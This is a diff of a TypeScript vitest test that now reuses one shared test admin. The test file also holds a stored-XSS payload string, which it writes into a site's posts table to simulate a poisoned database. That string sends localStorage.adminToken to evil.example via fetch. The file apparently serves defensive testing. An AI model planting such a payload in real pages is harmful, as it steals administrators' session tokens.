@@ -1,6 +1,8 @@
 import { createHash } from 'node:crypto';
 import { expect, test } from 'vitest';
-import { createTestAdmin } from '../../../tests/support/create-test-admin.ts';
+import { oneTestAdmin } from '../../../tests/support/create-test-admin.ts';
+
+const sameAdmin = oneTestAdmin();
 
 const slug = 'keyword-research-in-hinglish';
 const script = 'fetch("https://evil.example/?" + localStorage.adminToken)';
@@ -11,7 +13,7 @@ const hashOf = (text: string) => createHash('sha256').update(text).digest('base6
 
 /** A site into whose database somebody wrote, past the program. */
 async function poisonedSite() {
-  const admin = await createTestAdmin();
+  const admin = await sameAdmin();
   const { id } = await admin.database.db
     .updateTable('posts')
     .set({ content: poison })
